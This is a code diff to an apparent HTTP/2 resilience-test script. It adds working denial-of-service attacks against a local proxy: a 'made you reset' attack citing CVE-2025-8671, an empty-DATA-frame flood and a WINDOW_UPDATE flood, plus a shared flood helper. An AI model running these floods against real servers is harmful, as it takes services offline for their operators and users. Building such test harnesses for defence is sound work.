@@ -79,9 +79,11 @@ def literal(name, value):
     return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-def request_block(path):
-    # :method GET (static 2), :scheme http (static 7 is https; 6 is http), then literals.
-    return b"\x82\x86" + b"\x04" + bytes([len(path)]) + path.encode() + b"\x01\x09127.0.0.1"
+def request_block(path, method="GET"):
+    # :method GET (static 2) or POST (static 3), :scheme http (static 7 is https; 6 is
+    # http), then literals.
+    return (b"\x83" if method == "POST" else b"\x82") + b"\x86" + b"\x04" + bytes([len(path)]) + path.encode() \
+        + b"\x01\x09127.0.0.1"
 
 
 class Attacker:
@@ -189,6 +191,15 @@ def frame(kind, flags, stream, payload):
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
 
+def flood(a, one):
+    """Sends `one` frame a thousand at a time for SEND_FOR_S, or until the connection ends;
+    returns how many went."""
+    sent, until = 0, time.time() + SEND_FOR_S
+    while time.time() < until and a.send(one * 1000):
+        sent += 1000
+    return sent
+
+
 def rapid_reset(port):
     """CVE-2023-44487: 20,000 HEADERS (END_STREAM) + RST_STREAM(CANCEL) pairs on one
     connection, in batches of 500, faster than any answer."""
@@ -251,9 +262,7 @@ def settings_flood(port):
     acknowledgements, for SEND_FOR_S."""
     a = open_attacker(port, reads=False)
     one = SettingsFrame(0, settings={0x2: 0}).serialize()
-    sent, until = 0, time.time() + SEND_FOR_S
-    while time.time() < until and a.send(one * 1000):
-        sent += 1000
+    sent = flood(a, one)
     a.linger(3)
     return a, {"settings_sent": sent}
 
@@ -262,9 +271,7 @@ def ping_flood(port):
     """PINGs (each one must be acknowledged) from a client that never reads the acks."""
     a = open_attacker(port, reads=False)
     one = PingFrame(0, opaque_data=b"12345678").serialize()
-    sent, until = 0, time.time() + SEND_FOR_S
-    while time.time() < until and a.send(one * 1000):
-        sent += 1000
+    sent = flood(a, one)
     a.linger(3)
     return a, {"pings_sent": sent}
 
@@ -292,6 +299,44 @@ def many_streams(port):
     return a, {"refused": len(refused), "answered": len(answered)}
 
 
+def made_you_reset(port):
+    """CVE-2025-8671: requests the proxy starts on, each made a stream error by the client
+    (a WINDOW_UPDATE that takes the stream's window past 2^31 - 1, RFC 9113 §6.9.1), so
+    that the proxy resets the stream itself and its reset limit, which counts the client's
+    RST_STREAMs, never sees it; in batches of 500, for SEND_FOR_S."""
+    a = open_attacker(port)
+    block = request_block("/echo/made-you-reset")
+    sid, sent, until = 1, 0, time.time() + SEND_FOR_S
+    while time.time() < until and sid < 2 ** 31 - 1000:
+        batch = b"".join(HeadersFrame(sid + 2 * i, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+                         + frame(0x8, 0, sid + 2 * i, (0x7FFFFFFF).to_bytes(4, "big")) for i in range(500))
+        if not a.send(batch):
+            break
+        sid += 1000
+        sent += 500
+    a.linger(3)
+    return a, {"streams_sent": sent}
+
+
+def empty_frames(port):
+    """Empty DATA frames that do not end their stream, on one open upload, for SEND_FOR_S."""
+    a = open_attacker(port)
+    a.send(HeadersFrame(1, request_block("/echo/empty", method="POST"), flags=["END_HEADERS"]).serialize())
+    one = frame(0x0, 0, 1, b"")
+    sent = flood(a, one)
+    a.linger(3)
+    return a, {"frames_sent": sent}
+
+
+def window_update_flood(port):
+    """Connection-level WINDOW_UPDATEs of 1 byte with nothing being sent, for SEND_FOR_S."""
+    a = open_attacker(port)
+    one = frame(0x8, 0, 0, (1).to_bytes(4, "big"))
+    sent = flood(a, one)
+    a.linger(3)
+    return a, {"frames_sent": sent}
+
+
 ATTACKS = {
     "rapid_reset": rapid_reset,
     "continuation_flood": continuation_flood,
@@ -300,6 +345,9 @@ ATTACKS = {
     "ping_flood": ping_flood,
     "zero_window": zero_window,
     "many_streams": many_streams,
+    "made_you_reset": made_you_reset,
+    "empty_frames": empty_frames,
+    "window_update_flood": window_update_flood,
 }
 
 
